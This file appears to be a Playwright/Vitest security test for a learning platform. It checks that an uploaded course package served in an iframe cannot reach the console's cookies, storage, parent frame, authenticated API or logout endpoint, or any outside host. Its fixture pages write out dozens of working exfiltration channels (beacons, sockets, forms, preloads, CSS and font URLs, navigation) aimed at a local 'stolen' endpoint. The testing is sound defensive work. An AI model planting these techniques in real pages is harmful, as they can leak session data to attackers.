import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { addEdition } from '../../src/features/library/editions/edition.fixture.ts'
import { addResource } from '../../src/features/library/library.fixture.ts'
import { packZip } from '../../src/features/library/packages/zip.fixture.ts'
import { setStates } from '../../src/features/library/store.ts'
import { savePlaces } from '../../src/features/people/place-store.ts'
import { asSystem } from '../../src/platform/db.ts'
import { loginCookie } from '../../src/platform/http.ts'
import { browserPath } from '../harness/browser-path.ts'
import { county, logInAs, somebody, testPlaces } from '../harness/node.ts'
import { openSite, type Site } from '../harness/site.ts'

/** A page that tries what a hostile course would, and tells the page around it what it got. */
const hostile = `<!doctype html><meta charset="utf-8"><title>课</title>
<script src="helper.js"></script>
<script type="module">
const main = new URLSearchParams(location.search).get('main')
const outside = new URLSearchParams(location.search).get('outside')
const attempt = async (work) => { try { return 'got ' + (await work()) } catch (error) { return 'refused' } }
const told = {
  ownScript: window.helper ?? 'refused',
  ownFile: await attempt(() => fetch('data.json').then((answer) => answer.json()).then(({ fact }) => fact)),
  cookie: await attempt(() => document.cookie),
  cookieSet: await attempt(() => { document.cookie = '${loginCookie}=mine;path=/api'; return 'set' }),
  storage: await attempt(() => localStorage.getItem('secret')),
  databases: await attempt(async () => (await indexedDB.databases()).length),
  parent: await attempt(() => parent.document.title),
  parentStorage: await attempt(() => parent.localStorage.getItem('secret')),
  me: await attempt(() => fetch(main + '/api/me', { credentials: 'include' }).then((answer) => answer.text())),
  meBlind: await attempt(() => fetch(main + '/api/me', { credentials: 'include', mode: 'no-cors' }).then(() => 'sent')),
  logout: await attempt(() => fetch(main + '/api/logout', { method: 'POST', credentials: 'include', mode: 'no-cors' }).then(() => 'sent')),
  outside: await attempt(() => fetch(outside, { mode: 'no-cors' }).then(() => 'sent')),
  image: await new Promise((resolve) => { const image = new Image(); image.onload = () => resolve('got it'); image.onerror = () => resolve('refused'); image.src = outside }),
  top: await attempt(() => { top.location = outside; return 'gone' }),
}
parent.postMessage(told, '*')
</script>`

/** Every other way out that browsers know, each with a name of its own; the page cannot see whether it led anywhere. */
const waysOut = `<!doctype html><meta charset="utf-8"><title>课</title><body><script>
const outside = new URLSearchParams(location.search).get('outside')
const to = (way) => outside + '?' + way
const add = (name, attributes, where = document.body) => {
  const element = Object.assign(document.createElement(name), attributes)
  where.append(element)
  return element
}
const ways = {
  windowOpen: () => open(to('windowOpen')),
  windowOpenOpener: () => { const own = open('about:blank'); own.location = to('windowOpenOpener') },
  formBlank: () => add('form', { method: 'post', action: to('formBlank'), target: '_blank' }).submit(),
  formHere: () => {
    const frame = add('iframe', { name: 'posted' })
    add('form', { method: 'post', action: to('formHere'), target: 'posted' }).submit()
  },
  formTop: () => add('form', { action: to('formTop'), target: '_top' }).submit(),
  linkBlank: () => add('a', { href: to('linkBlank'), target: '_blank' }).click(),
  linkTop: () => add('a', { href: to('linkTop'), target: '_top' }).click(),
  linkParent: () => add('a', { href: to('linkParent'), target: '_parent' }).click(),
  linkPing: () => add('a', { href: '#here', ping: to('linkPing') }).click(),
  frame: () => add('iframe', { src: to('frame') }),
  frameInData: () => add('iframe', { src: 'data:text/html,<img src=' + to('frameInData') + '>' }),
  frameInBlob: () => add('iframe', { src: URL.createObjectURL(new Blob(['<img src=' + to('frameInBlob') + '>'], { type: 'text/html' })) }),
  frameInText: () => add('iframe', { srcdoc: '<meta http-equiv="refresh" content="0;url=' + to('frameInText') + '">' }),
  object: () => add('object', { data: to('object') }),
  embed: () => add('embed', { src: to('embed') }),
  image: () => add('img', { src: to('image') }),
  style: () => add('link', { rel: 'stylesheet', href: to('style') }),
  importStyle: () => { add('style', { textContent: '@import url(' + to('importStyle') + ')' }) },
  background: () => { document.body.style.background = 'url(' + to('background') + ')' },
  font: () => { add('style', { textContent: '@font-face { font-family: x; src: url(' + to('font') + ') } body { font-family: x }' }); document.body.append('字') },
  script: () => add('script', { src: to('script') }),
  module: () => import(to('module')).catch(() => {}),
  worker: () => new Worker(URL.createObjectURL(new Blob(['fetch("' + to('worker') + '").catch(() => {}); importScripts("' + to('workerScript') + '")']))),
  prefetch: () => add('link', { rel: 'prefetch', href: to('prefetch') }, document.head),
  prerender: () => add('link', { rel: 'prerender', href: to('prerender') }, document.head),
  preload: () => add('link', { rel: 'preload', as: 'image', href: to('preload') }, document.head),
  modulePreload: () => add('link', { rel: 'modulepreload', href: to('modulePreload') }, document.head),
  icon: () => add('link', { rel: 'icon', href: to('icon') }, document.head),
  manifest: () => add('link', { rel: 'manifest', href: to('manifest') }, document.head),
  speculation: () => add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [to('speculation')], eagerness: 'immediate' }] }) }),
  video: () => add('video', { src: to('video'), autoplay: true, muted: true }),
  poster: () => add('video', { poster: to('poster') }),
  request: () => { const request = new XMLHttpRequest(); request.open('POST', to('request')); request.send('x') },
  beacon: () => navigator.sendBeacon(to('beacon'), 'x'),
  socket: () => new WebSocket(to('socket').replace('http', 'ws')),
  events: () => new EventSource(to('events')),
  keepAlive: () => fetch(to('keepAlive'), { method: 'POST', mode: 'no-cors', keepalive: true }).catch(() => {}),
  policyReport: () => {
    add('meta', { httpEquiv: 'Content-Security-Policy', content: "img-src 'none'; report-uri " + to('policyReport') }, document.head)
    add('img', { src: 'own.png' })
  },
}
// Each of these may be the end of the page.
const last = {
  linkDownload: () => add('a', { href: to('linkDownload'), download: 'a.txt' }).click(),
  mail: () => { location = 'mailto:a@example.org?body=secret' },
  refresh: () => add('meta', { httpEquiv: 'refresh', content: '0;url=' + to('refresh') }, document.head),
  itself: () => { location = to('itself') },
  replaced: () => { location.replace(to('replaced')) },
  formItself: () => add('form', { method: 'post', action: to('formItself') }).submit(),
  linkItself: () => add('a', { href: to('linkItself') }).click(),
}
const only = new URLSearchParams(location.search).get('only')
if (only) last[only]()
else {
  for (const way of Object.values(ways)) try { way() } catch {}
  setTimeout(() => top.postMessage('tried ' + Object.keys(ways).length, '*'), 500)
}
</script>`
const lastWays = [
  'linkDownload',
  'mail',
  'refresh',
  'itself',
  'replaced',
  'formItself',
  'linkItself',
]
const course = packZip([
  { name: 'index.html', content: hostile },
  { name: 'helper.js', content: "window.helper = 'ran'" },
  { name: 'data.json', content: '{"fact": "own"}' },
  { name: 'ways.html', content: waysOut },
])

describe.skipIf(!browserPath())('S4-10 a package that means no good', () => {
  let site: Site
  let outside: Server
  const asked: string[] = []
  let opened: string
  let content: string
  let stolen: string
  let page: Page
  let cookie: string
  beforeAll(async () => {
    site = await openSite()
    outside = createServer((request, response) => {
      asked.push(String(request.url))
      response.end('outside')
    })
    await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve))
    const { ground } = site.node
    const node = { ...site.node, db: ground.db, setNow: () => {}, close: async () => {} }
    await asSystem(ground.db, 'test places', (tx) => savePlaces(tx, testPlaces))
    const { actor, loginName } = await somebody(node, {
      role: 'programme_office',
      regionCode: county,
    })
    cookie = (await logInAs(node, loginName)).cookie
    const id = await addResource(ground.db, '坏课', { state: 'draft', mediaType: 'package' })
    await addEdition(ground, actor, id, { name: '坏课.zip', bytes: course })
    await asSystem(ground.db, 'test', (tx) => setStates(tx, [id], 'published'))
    const answer = await fetch(`${site.node.url}/api/library/resources/${id}/editions`, {
      headers: { cookie: `${loginCookie}=${cookie}` },
    })
    const { editions } = (await answer.json()) as { editions: { address: string }[] }
    content = editions[0]?.address ?? ''
    stolen = `http://127.0.0.1:${(outside.address() as AddressInfo).port}/stolen`
    opened = `${content}index.html?main=${site.node.url}&outside=${stolen}`
    ;({ page } = await site.open(1280))
    const { hostname } = new URL(site.node.url)
    await page.context().addCookies([
      {
        name: loginCookie,
        value: cookie,
        domain: hostname,
        path: '/',
        httpOnly: true,
        sameSite: 'Strict',
      },
    ])
  })
  afterAll(async () => {
    await site?.close()
    outside?.close()
  })

  /** What the package got, in a frame of the console with these rights. */
  const tellFrom = async (sandbox: string | null): Promise<Record<string, string>> => {
    await page.goto(`${site.node.url}/console/login`)
    // As text: what it names is the browser's.
    return page.evaluate<Record<string, string>>(`(async () => {
      localStorage.setItem('secret', 'of the console')
      const told = new Promise((resolve) => {
        addEventListener('message', ({ data }) => resolve(data), { once: true })
      })
      const frame = document.createElement('iframe')
      const sandbox = ${JSON.stringify(sandbox)}
      if (sandbox !== null) frame.setAttribute('sandbox', sandbox)
      frame.src = ${JSON.stringify(opened)}
      document.body.append(frame)
      return told
    })()`)
  }
  const nothing = {
    // Stand-ins of the page's own, empty and gone with it.
    cookie: 'got ',
    cookieSet: 'got set',
    storage: 'got null',
    databases: 'refused',
    parent: 'refused',
    parentStorage: 'refused',
    me: 'refused',
    meBlind: 'refused',
    logout: 'refused',
    outside: 'refused',
    image: 'refused',
    top: 'refused',
  }

  test.each([
    ['in a frame without rights of its own', 'allow-scripts'],
    ['in a frame that forgot its sandbox', null],
    [
      'in a frame that gave everything away',
      'allow-scripts allow-same-origin allow-top-navigation',
    ],
  ])('%s it runs, reads its own files, and gets nothing else', async (_where, sandbox) => {
    expect(await tellFrom(sandbox)).toEqual({ ownScript: 'ran', ownFile: 'got own', ...nothing })
    expect(page.url()).toBe(`${site.node.url}/console/login`)
    expect(asked).toEqual([])
  })

  const hold = (address: string, how: object): Promise<void> =>
    page.evaluate(`(async () => {
      const frame = document.createElement('iframe')
      Object.entries(${JSON.stringify(how)}).forEach(([name, value]) => frame.setAttribute(name, value))
      frame.src = ${JSON.stringify(address)}
      document.body.append(frame)
      await new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }))
    })()`)

  test('S4-10 A5 no way out of a frame leads to another host', async () => {
    await page.goto(`${site.node.url}/console/login`)
    const pages = page.context().pages().length
    const tried = page.evaluate<string>(
      `new Promise((resolve) => addEventListener('message', ({ data }) => resolve(String(data)), { once: true }))`,
    )
    await hold(`${content}ways.html?outside=${stolen}`, {})
    expect(await tried).toMatch(/^tried \d\d/)
    for (const only of lastWays) {
      await hold(`${content}ways.html?outside=${stolen}&only=${only}`, {})
    }
    expect(page.context().pages().length).toBe(pages)
    // What the same browser asks for last has come: nothing before it did.
    const own = await page.context().newPage()
    await own.goto(`${new URL(stolen).origin}/asked-by-us`)
    await own.close()
    expect(asked.splice(0).filter((path) => path !== '/favicon.ico')).toEqual(['/asked-by-us'])
    expect(page.url()).toBe(`${site.node.url}/console/login`)
  })

  test('the login still holds, and the content port knows none', async () => {
    const headers = { cookie: `${loginCookie}=${cookie}` }
    expect((await fetch(`${site.node.url}/api/me`, { headers })).status).toBe(200)
    const { origin } = new URL(opened)
    expect(new URL(site.node.url).port).not.toBe(new URL(opened).port)
    for (const path of ['/api/me', '/console', '/', '/metrics', '/sync/hello']) {
      expect((await fetch(`${origin}${path}`, { headers })).status, path).toBe(404)
    }
    expect((await fetch(opened)).headers.get('set-cookie')).toBeNull()
  })
})
